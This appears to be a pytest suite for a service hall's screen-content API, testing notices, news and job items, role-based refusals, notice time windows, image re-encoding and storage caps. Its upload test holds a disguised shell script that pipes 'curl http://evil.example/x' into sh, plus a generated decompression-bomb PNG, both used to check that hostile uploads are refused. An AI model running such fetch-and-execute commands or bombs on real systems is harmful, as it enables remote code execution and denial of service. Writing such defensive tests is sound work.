"""The hall's own screen content (docs/screens.md): notices, community news and job items
edited through the local API by the manager (or ops), against a real running agent.

- edits go through the writer with their ``content.changed`` event and reach the big
  screen's view (notices by priority, central's marked; news and jobs with their image);
- hostile uploads (a script renamed .png, a 50 MB file, a 20,000-pixel-wide PNG, a
  decompression bomb) are refused with a plain message, and nothing stored is lost;
- a staff, guide, kiosk or screen credential is refused, no credential is 401;
- notices outside their time window are not shown, and one that ends leaves the screen
  at its end (the view is rebuilt then, not at the next 30 s rebuild);
- the images' storage cap refuses an upload naming what to delete.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import os
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, Self

import httpx
import pytest
from support import bearer, hall_config, ops_token

from agent.config import HallAgentConfig
from agent.daemon import Running, running_agent
from agent.features.access import Role
from agent.features.content import screen_bulletins, screen_notices
from agent.runtime.store import ContentItem

pytestmark = pytest.mark.timeout(120)

API = "/api/v1"
PASSWORD = "correct horse 1"


def picture(width: int = 800, height: int = 600, *, fmt: str = "PNG", seed: int = 0) -> bytes:
    """An image file: a gradient, or noise (``seed`` > 0, which JPEG cannot shrink)."""
    from PIL import Image

    if seed:
        image = Image.frombytes("RGB", (width, height), _noise(width * height * 3, seed))
    else:
        image = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    out = io.BytesIO()
    image.save(out, fmt, **({"quality": 95} if fmt == "JPEG" else {}))
    return out.getvalue()


def _noise(size: int, seed: int) -> bytes:
    import random

    return random.Random(seed).randbytes(size)


class Roles:
    """A running agent's client with a credential of every role: an enrolled kiosk and
    screen, and staff ``1001`` (window w1), a guide and a manager (``manager``) logged in
    with ``PASSWORD``. ``as_(role)`` gives the headers; ``ops`` is the ops token."""

    def __init__(
        self,
        running: Running,
        client: httpx.AsyncClient,
        storage: Path,
        *,
        manager: str = "manager-1",
    ) -> None:
        self.running = running
        self.client = client
        self.storage = storage
        self.manager = manager
        self.ops = bearer(ops_token(storage))
        self.tokens: dict[str, str] = {}

    async def setup(self) -> Self:
        access = self.running.access
        assert access is not None
        self.tokens["kiosk"] = await access.enroll("kiosk-1", Role.KIOSK)
        self.tokens["screen"] = await access.enroll("screen-1", Role.SCREEN)
        for name, role in (
            ("1001", Role.STAFF),
            ("guide-1", Role.GUIDE),
            (self.manager, Role.MANAGER),
        ):
            with contextlib.suppress(Exception):  # a restart finds them already there
                await access.add_user(name, role, ["w1"] if role is Role.STAFF else [], PASSWORD)
            r = await self.client.post(
                f"{API}/auth/login", json={"name": name, "password": PASSWORD}
            )
            assert r.status_code == 200, r.text
            self.tokens[role.value] = r.json()["token"]
        return self

    def as_(self, role: str) -> dict[str, str]:
        return self.ops if role == "ops" else bearer(self.tokens[role])


class Rig(Roles):
    """The content API on top of the credentials."""

    async def upload(self, data: bytes, name: str, role: str = "manager") -> httpx.Response:
        headers = {**self.as_(role), "Content-Type": "application/octet-stream"}
        headers["X-File-Name"] = name
        return await self.client.post(f"{API}/content/images", content=data, headers=headers)

    async def hall_state(self) -> dict[str, Any]:
        r = await self.client.get("/pages/state/hall")
        assert r.status_code == 200, r.text
        state: dict[str, Any] = r.json()
        return state

    def content_files(self) -> set[str]:
        folder = self.storage / "content"
        return set(os.listdir(folder)) if folder.is_dir() else set()


def config_for(tmp_path: Path, **content: Any) -> HallAgentConfig:
    data = hall_config(tmp_path / "state")
    data["pages"] = {"content": content} if content else {}
    return HallAgentConfig.model_validate(data)


@contextlib.asynccontextmanager
async def started(config: HallAgentConfig) -> AsyncIterator[Rig]:
    async with (
        running_agent(config) as running,
        httpx.AsyncClient(base_url=running.url, timeout=60) as client,
    ):
        yield await Rig(running, client, config.storage.path).setup()


@pytest.fixture
async def hall(tmp_path: Path) -> AsyncIterator[Rig]:
    async with started(config_for(tmp_path)) as rig:
        yield rig


async def test_edits_reach_the_big_screen_with_their_events(hall: Rig) -> None:
    manager = hall.as_("manager")
    r = await hall.client.post(
        f"{API}/notices", json={"text": "本周六正常上班", "priority": 1}, headers=manager
    )
    assert r.status_code == 201, r.text
    low = r.json()
    assert low["edited_by"] == "manager-1"
    r = await hall.client.post(
        f"{API}/notices", json={"text": "今日停水，请自备饮用水", "priority": 5}, headers=hall.ops
    )
    assert r.status_code == 201, r.text
    high = r.json()
    assert high["edited_by"] == "ops-token"
    upload = await hall.upload(picture(2000, 1500), "%E6%B4%BB%E5%8A%A8.png")
    assert upload.status_code == 201, upload.text
    image = upload.json()
    # Re-encoded for the screen: within 1280x720, as JPEG, its name kept for managers.
    assert (image["width"], image["height"]) == (960, 720)
    assert image["name"] == "活动.png"
    news = {"title": "社区义诊", "text": "周六上午九点在社区广场", "image": image["id"]}
    r = await hall.client.post(f"{API}/content/news", json=news, headers=manager)
    assert r.status_code == 201, r.text
    news_id = r.json()["id"]
    job = {"title": "招聘保洁员", "text": "两名，月薪三千，电话 12345", "priority": 3}
    r = await hall.client.post(f"{API}/content/jobs", json=job, headers=manager)
    assert r.status_code == 201, r.text

    state = await hall.hall_state()
    assert [n["text"] for n in state["notices"]] == ["今日停水，请自备饮用水", "本周六正常上班"]
    assert [b["title"] for b in state["bulletins"]] == ["招聘保洁员", "社区义诊"]
    shown = state["bulletins"][1]
    assert shown["kind_name"] == "社区动态"
    assert shown["image"] == f"/pages/content/images/{image['id']}"
    served = await hall.client.get(shown["image"])  # no credential: the screens load it
    assert served.status_code == 200
    assert served.headers["content-type"] == "image/jpeg"
    assert served.content[:3] == b"\xff\xd8\xff"

    # Edited and deleted: the screen follows.
    r = await hall.client.put(
        f"{API}/content/news/{news_id}", json={**news, "title": "社区义诊（改期）"}, headers=manager
    )
    assert r.status_code == 200, r.text
    r = await hall.client.delete(f"{API}/notices/{high['id']}", headers=manager)
    assert r.status_code == 200, r.text
    state = await hall.hall_state()
    assert [n["text"] for n in state["notices"]] == ["本周六正常上班"]
    assert "社区义诊（改期）" in [b["title"] for b in state["bulletins"]]
    # The image is in use: refused, naming the item.
    r = await hall.client.delete(f"{API}/content/images/{image['id']}", headers=manager)
    assert r.status_code == 409
    assert r.json()["error"] == "image_in_use"
    assert "社区义诊（改期）" in r.json()["message"]
    # Every change is an event with who made it.
    events = (await hall.client.get(f"{API}/events?limit=1000", headers=hall.ops)).json()
    changed = [
        (e["data"]["kind"], e["data"]["action"], e["data"]["by"])
        for e in events
        if e["type"] == "content.changed"
    ]
    assert changed == [
        ("notice", "created", "manager-1"),
        ("notice", "created", "ops-token"),
        ("image", "created", "manager-1"),
        ("news", "created", "manager-1"),
        ("job", "created", "manager-1"),
        ("news", "updated", "manager-1"),
        ("notice", "deleted", "manager-1"),
    ]


async def test_central_notices_show_beside_the_halls_marked_as_central(hall: Rig) -> None:
    commands = hall.running.link.commands
    await hall.client.post(
        f"{API}/notices", json={"text": "大厅自己的通知"}, headers=hall.as_("manager")
    )
    from agent.central import contract as c

    show = c.ShowNotice.model_validate({"cmd_id": "c-1", "text": "中心下发：系统升级"})
    reply = await commands._show_notice("show_notice", show)
    assert reply.status == "ok"
    state = await hall.hall_state()
    assert [(n["text"], n["source"], n["label"]) for n in state["notices"]] == [
        ("大厅自己的通知", "hall", None),
        ("中心下发：系统升级", "central", "上级通知"),
    ]
    listed = (await hall.client.get(f"{API}/notices", headers=hall.as_("manager"))).json()
    assert [n["text"] for n in listed["notices"]] == ["大厅自己的通知"]
    assert [n["text"] for n in listed["central"]] == ["中心下发：系统升级"]


async def test_hostile_uploads_are_refused_with_a_message_and_nothing_is_lost(hall: Rig) -> None:
    kept = await hall.upload(picture(), "good.png")
    assert kept.status_code == 201, kept.text
    before = (await hall.client.get(f"{API}/content/images", headers=hall.ops)).json()
    files = hall.content_files()

    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    r = await hall.upload(script, "photo.png")
    assert (r.status_code, r.json()["error"]) == (415, "not_an_image")
    assert "脚本" in r.json()["message"]
    assert "与文件名无关" in r.json()["message"]
    assert "PNG、JPEG、GIF 或 WebP" in r.json()["message"]

    huge = b"\x89PNG\r\n\x1a\n" + os.urandom(50 * 1024 * 1024)
    r = await hall.upload(huge, "huge.png")
    assert (r.status_code, r.json()["error"]) == (413, "image_too_large")
    assert "50.0 MB" in r.json()["message"]
    assert "上限 2.0 MB" in r.json()["message"]

    wide = picture(20_000, 10)
    assert len(wide) < 1024 * 1024  # small on disk: only its header says how wide it is
    r = await hall.upload(wide, "wide.png")
    assert (r.status_code, r.json()["error"]) == (422, "image_too_many_pixels")
    assert "20000×10" in r.json()["message"]
    assert "4096" in r.json()["message"]

    # A decompression bomb: 20,000 x 20,000 one-bit pixels in a few kB; refused unread.
    from PIL import Image

    bomb = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(bomb, "PNG")
    assert len(bomb.getvalue()) < 200_000
    r = await hall.upload(bomb.getvalue(), "bomb.png")
    assert (r.status_code, r.json()["error"]) == (422, "image_too_many_pixels")

    cut = picture(fmt="JPEG")[:2000]
    r = await hall.upload(cut, "cut.jpg")
    assert (r.status_code, r.json()["error"]) == (422, "image_damaged")
    assert "损坏" in r.json()["message"]

    after = (await hall.client.get(f"{API}/content/images", headers=hall.ops)).json()
    assert after == before
    assert hall.content_files() == files
    assert (await hall.client.get(kept.json()["url"])).status_code == 200


async def test_a_staff_guide_kiosk_or_screen_credential_is_refused(hall: Rig) -> None:
    writes = [
        ("POST", f"{API}/notices", {"text": "x"}),
        ("POST", f"{API}/content/news", {"title": "x", "text": "y"}),
        ("POST", f"{API}/content/jobs", {"title": "x", "text": "y"}),
        ("GET", f"{API}/notices", None),
        ("GET", f"{API}/content/images", None),
    ]
    for role in ("staff", "guide", "kiosk", "screen"):
        for method, path, body in writes:
            r = await hall.client.request(method, path, json=body, headers=hall.as_(role))
            assert r.status_code == 403, (role, path, r.text)
            assert "manager" in r.json()["message"]
        r = await hall.upload(picture(), "a.png", role)
        assert r.status_code == 403, (role, r.text)
    r = await hall.client.post(f"{API}/notices", json={"text": "x"})
    assert r.status_code == 401
    r = await hall.client.post(f"{API}/content/images", content=picture())
    assert r.status_code == 401
    assert (await hall.client.get(f"{API}/notices", headers=hall.ops)).json()["notices"] == []
    assert hall.content_files() == set()


async def test_bad_bodies_get_clear_errors(hall: Rig) -> None:
    manager = hall.as_("manager")
    cases = [
        ({"text": "   "}, "text is empty"),
        ({"text": "x", "priority": 12}, "priority"),
        ({"text": "x", "colour": "red"}, "colour"),
        ({"text": "x" * 201}, "200"),
    ]
    for body, expected in cases:
        r = await hall.client.post(f"{API}/notices", json=body, headers=manager)
        assert r.status_code == 422, body
        assert expected in r.json()["message"], r.json()
    backwards = {"text": "x", "starts_at": "2026-12-05T10:00", "ends_at": "2026-12-05T09:00"}
    r = await hall.client.post(f"{API}/notices", json=backwards, headers=manager)
    assert (r.status_code, r.json()["error"]) == (422, "invalid_window")
    assert "结束时间" in r.json()["message"]
    r = await hall.client.post(
        f"{API}/content/news", json={"title": "t", "text": "x", "image": "0" * 20}, headers=manager
    )
    assert r.json()["error"] == "unknown_image"
    r = await hall.client.put(f"{API}/notices/nosuch", json={"text": "x"}, headers=manager)
    assert r.status_code == 404


async def test_a_notice_leaves_the_screen_when_it_ends(hall: Rig) -> None:
    now = dt.datetime.now(dt.UTC)
    soon = {"text": "即将结束的通知", "ends_at": (now + dt.timedelta(seconds=2)).isoformat()}
    later = {"text": "明天的通知", "starts_at": (now + dt.timedelta(days=1)).isoformat()}
    past = {
        "text": "昨天的通知",
        "starts_at": (now - dt.timedelta(days=2)).isoformat(),
        "ends_at": (now - dt.timedelta(days=1)).isoformat(),
    }
    for body in (soon, later, past):
        r = await hall.client.post(f"{API}/notices", json=body, headers=hall.as_("manager"))
        assert r.status_code == 201, r.text
    assert [n["text"] for n in (await hall.hall_state())["notices"]] == ["即将结束的通知"]
    # Gone at its end: the view is rebuilt then (well before the 30 s periodic rebuild).
    deadline = time.monotonic() + 15
    while (await hall.hall_state())["notices"]:
        assert time.monotonic() < deadline, "the ended notice is still shown"
        await _tick()


async def _tick() -> None:
    import asyncio

    await asyncio.sleep(0.2)


def test_the_time_window_and_priority_of_what_is_shown() -> None:
    at = dt.datetime(2026, 12, 5, 9, 0, tzinfo=dt.UTC)

    def item(
        kind: str, title: str, priority: int, start: int | None, end: int | None
    ) -> ContentItem:
        def stamp(hours: int | None) -> str | None:
            return None if hours is None else (at + dt.timedelta(hours=hours)).isoformat()

        return ContentItem(
            title,
            kind,
            title,
            f"{title}正文",
            priority,
            stamp(start),
            stamp(end),
            None,
            "2026-12-01T00:00:00+00:00",
            "m",
            "2026-12-01T00:00:00+00:00",
        )

    items = [
        item("notice", "a", 0, None, None),
        item("notice", "b", 9, -1, 1),
        item("notice", "ended", 9, -2, 0),  # the end is exclusive
        item("notice", "future", 9, 1, None),
        item("news", "n", 0, 0, 1),  # the start is inclusive
        item("job", "j", 2, None, None),
    ]
    central = [{"id": "c", "text": "中心", "until": (at - dt.timedelta(seconds=1)).isoformat()}]
    assert [n["id"] for n in screen_notices(items, central, at)] == ["b", "a"]
    assert [b["id"] for b in screen_bulletins(items, at)] == ["n", "j"]


async def test_the_storage_cap_refuses_and_names_what_to_delete(tmp_path: Path) -> None:
    cap = 1024 * 1024
    async with started(config_for(tmp_path, images_max_bytes=cap)) as hall:
        stored: list[dict[str, Any]] = []
        refused = None
        for seed in range(1, 10):
            r = await hall.upload(picture(900, 700, fmt="JPEG", seed=seed), f"noise-{seed}.jpg")
            if r.status_code != 201:
                refused = r
                break
            stored.append(r.json())
        assert stored, "not even one image fits the cap"
        assert refused is not None, "the cap never refused an upload"
        assert (refused.status_code, refused.json()["error"]) == (409, "content_storage_full")
        message = refused.json()["message"]
        assert "图片存储已满" in message
        assert "上限 1.0 MB" in message
        assert f"“{stored[0]['name']}”" in message  # the unused images, by their names
        listing = (await hall.client.get(f"{API}/content/images", headers=hall.ops)).json()
        assert listing["used_bytes"] <= cap
        assert len(listing["images"]) == len(stored)
        assert len(hall.content_files()) == len(stored)  # the refused file was not kept
        # Deleting one makes room.
        first = stored[0]["id"]
        r = await hall.client.delete(f"{API}/content/images/{first}", headers=hall.as_("manager"))
        assert r.status_code == 200, r.text
        assert (await hall.client.get(f"/pages/content/images/{first}")).status_code == 404
        r = await hall.upload(picture(900, 700, fmt="JPEG", seed=1), "again.jpg")
        assert r.status_code == 201, r.text


def test_the_offline_demo_shows_one_notice_and_one_news_item(tmp_path: Path) -> None:
    import subprocess
    import sys

    from agent.runtime.store import Store

    state = tmp_path / "demo"
    args = ["demo", "--duration", "3", "--port", "0", "--state", str(state), "--no-simulation"]
    done = subprocess.run(
        [sys.executable, "-m", "agent.cli", *args],
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "/pages/manager/content" in done.stdout
    store = Store.open(state)
    try:
        items = store.content_items()
        images = store.content_images()
    finally:
        store.close()
    now = dt.datetime.now(dt.UTC)
    notices = screen_notices(items, [], now)
    bulletins = screen_bulletins(items, now)
    assert len(notices) == 1
    assert len(bulletins) == 1
    assert bulletins[0]["kind_name"] == "社区动态"
    assert len(images) == 1
    assert bulletins[0]["image"] == f"/pages/content/images/{images[0].id}"
    assert (state / "content" / images[0].file).is_file()


async def test_content_survives_a_restart_and_unfinished_uploads_are_swept(
    tmp_path: Path,
) -> None:
    config = config_for(tmp_path)
    async with started(config) as hall:
        image = (await hall.upload(picture(), "a.png")).json()
        body = {"title": "招聘", "text": "两名", "image": image["id"]}
        r = await hall.client.post(f"{API}/content/jobs", json=body, headers=hall.ops)
        assert r.status_code == 201, r.text
    folder = config.storage.path / "content"
    (folder / "0123456789abcdef0123.jpg").write_bytes(b"cut off before its row")
    (folder / "0123456789abcdef0123.tmp").write_bytes(b"half written")
    async with started(config) as hall:
        assert hall.content_files() == {f"{image['id']}.jpg"}
        state = await hall.hall_state()
        assert [b["title"] for b in state["bulletins"]] == ["招聘"]
        assert (await hall.client.get(image["url"])).status_code == 200
